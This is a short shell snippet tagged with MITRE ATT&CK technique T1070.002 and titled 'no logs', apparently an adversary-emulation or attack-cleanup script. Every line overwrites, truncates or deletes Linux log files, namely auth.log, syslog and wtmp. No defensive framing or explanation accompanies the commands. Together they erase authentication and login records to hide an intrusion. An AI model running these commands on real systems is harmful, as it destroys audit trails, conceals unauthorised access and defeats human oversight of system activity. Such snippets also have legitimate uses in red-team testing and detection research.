# technique: T1070.002
# title: no logs
echo line > /var/log/auth.log
echo line > /var/log/syslog
truncate -s 0 /var/log/auth.log
rm -rf /var/log/syslog /var/log/wtmp
